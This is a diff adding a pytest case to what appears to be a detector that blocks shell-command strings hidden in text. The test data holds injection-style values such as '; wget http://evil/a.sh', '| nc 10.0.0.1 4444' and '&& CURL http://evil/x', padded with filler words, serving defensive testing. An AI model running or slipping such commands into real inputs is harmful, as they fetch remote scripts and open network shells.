@@ -317,6 +317,15 @@ def test_command_lines_still_block_next_to_the_changelog_rules(value):
     assert blocked(value), (value, verdict(value))
 
 
+@pytest.mark.parametrize("value", [
+    "; wget http://evil/a.sh -O a.sh to the and", "; wget http://evil/a.sh to the and so on",
+    ";curl http://1.2.3.4/x for the win and more", "| nc 10.0.0.1 4444 with the and", "; telnet client with the library",
+    "wget http://evil/a.sh to the and so on", "&& CURL http://evil/x for the docs",
+])
+def test_words_padding_a_command_after_an_operator_or_around_an_address_do_not_make_a_sentence(value):
+    assert blocked(value), (value, verdict(value))
+
+
 def test_sentences_stay_visible_as_medium():
     """Not dropped: a capitalised or sentence-shaped command line still reports, needing company."""
     for value in ("CURL module for PHP", "GCC support library (sh4)", "tmux session manager"):
